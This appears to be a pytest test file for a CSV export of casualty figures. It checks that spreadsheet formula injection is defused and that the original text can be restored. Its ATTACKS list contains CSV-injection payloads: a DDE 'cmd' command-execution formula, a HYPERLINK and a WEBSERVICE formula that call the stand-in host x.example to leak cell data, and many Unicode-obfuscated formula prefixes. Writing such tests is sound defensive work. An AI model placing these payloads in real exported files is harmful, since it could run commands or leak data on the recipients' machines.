"""The table of figures: nothing in it is run by a spreadsheet, and everything can be had back."""

from __future__ import annotations

import csv
import io
import random
import re
import unicodedata

import pytest

from tests.verify.publish.contents import (
    capture,
    claim,
    document,
    figure,
    frozen,
    quote,
    region,
    said,
    source,
    whole,
)
from verify.publish.figures_csv import COLUMNS, WARNING, defused, figures_csv, restored

ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    '=WEBSERVICE("http://x.example")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    '"=1+1"',
    '""=1',
    "'=1+1",
    "''=1",
    "“=1",
    "«=1",
    "` =1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫1",
    "\t",
    "\rx",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    'a";=1+1;"',
    "a; =1",
    "a|=1",
    "=1;=2,=3",
    "-",
    "-5",
    "\x00=1",
    "\x1f=1",
]
HARMLESS = [
    "",
    "Latakia",
    "a=b",
    "745",
    "5-10",
    "–5",
    "more than 1,000",
    "الساحل",
    "a; b",
    "a, b",
    "O'Hara",
    "3+4",
    "x@y",
]


def cells(content: bytes, **how: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), **how))


def begins_like_a_formula(cell: str) -> bool:
    """As the most forgiving spreadsheet reads it: blanks, quotation marks and what nobody sees are passed over."""
    for char in cell:
        if unicodedata.normalize("NFKC", char) in "=+-@":
            return True
        if char not in '"`“”„«»' and unicodedata.category(char)[0] not in "ZC":
            return False
    return False


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_is_text_whatever_separator_the_reader_takes(text):
    assert defused(text) != text
    table = figures_csv([claim(figures=[figure(as_written=text, category=text, perpetrator=f"x{text}")])])
    (row,) = cells(table)
    assert not any(begins_like_a_formula(cell) for cell in row.values())
    lines = re.split(r"[\r\n]+", table.decode("utf-8-sig"))  # as by who takes a line for a row, quoted or not
    for separator in ",;\t|":
        for cell in (cell for line in csv.reader(lines, delimiter=separator) for cell in line):
            assert not begins_like_a_formula(cell)


@pytest.mark.parametrize("text", ATTACKS + HARMLESS)
def test_what_was_defused_can_be_had_back(text):
    assert restored(defused(text)) == text
    (row,) = cells(figures_csv([claim(figures=[figure(perpetrator=text)])]))
    assert restored(row["perpetrator"]) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_is_left_as_it_is(text):
    assert defused(text) == text


def test_any_mixture_of_signs_is_defused_and_had_back():
    chance = random.Random(745)
    for _ in range(3000):
        text = "".join(chance.choice("=+-@'\"“,;|\t\r\n \u200b＝a1") for _ in range(chance.randrange(9)))
        assert restored(defused(text)) == text
        assert not begins_like_a_formula(defused(text)), repr(text)


def test_the_form_is_that_of_the_standard():
    content = figures_csv([whole()])
    assert content.startswith(b"\xef\xbb\xbf")
    lines = content.decode("utf-8-sig").split("\r\n")
    assert lines[-1] == ""
    assert lines[0] == ",".join(f'"{name}"' for name in COLUMNS)
    assert {len(row) for row in csv.reader(lines[:-1])} == {len(COLUMNS)}


def test_numbers_are_numbers_and_the_rest_is_quoted():
    text = figures_csv([claim(figures=[figure(lower=0, point=745, upper=None)])]).decode("utf-8-sig")
    assert ',0,745,"","around","around 745",' in text


def test_a_row_says_what_it_counts_who_gave_it_and_what_shows_it():
    told = said(
        "a",
        speaker=source("s", "Observatory"),
        document=document(),
        figures=["f1"],
        quotes=[quote()],
        regions=[region(capture=capture("c2", entry=None))],
    )
    (row,) = cells(figures_csv([claim(assertions=[told], figures=[figure()])]))
    counts = (
        "people killed, civilians, in Latakia, Syria, from 2025-03-06 to 2025-03-08, as known by 2025-03-08"
    )
    assert row["counts"] == counts
    assert (row["given_by"], row["documents"]) == ("Observatory", "https://wire.example/d1")
    assert (row["archived_copies"], row["log_entries"]) == ("c1 c2", "7")
    assert (row["place"], row["place_as_written"]) == ("Syria > Latakia", "the coast")
    assert row["warning"] == WARNING


def test_what_is_not_stated_is_said_not_to_be():
    bare = figure(category="", place=None, place_as_written="", window=[None, None], as_of=None)
    (row,) = cells(figures_csv([claim(figures=[bare])]))
    assert row["counts"] == "people killed, victims: not stated, place: not stated, days: not stated"


def test_revisions_and_parts_lead_to_each_other():
    first, second = cells(figures_csv([whole()]))
    assert (first["superseded_by"], second["supersedes"], second["part_of"]) == ("f2", "f1", "f1")


def test_a_figure_of_a_frozen_version_has_the_place_as_it_was_written():
    (row,) = cells(figures_csv([frozen()]))
    assert (row["place"], row["place_as_written"]) == ("", "Latakia and Tartous")


def test_the_figures_of_several_claims_stand_in_one_table():
    one, other = claim(figures=[figure()]), claim(id="x", figures=[figure("f9", supersedes="f1")])
    rows = cells(figures_csv([one, other]))
    assert [row["claim_id"] for row in rows] == ["0b7f", "x"]
    assert rows[0]["superseded_by"] == "f9"
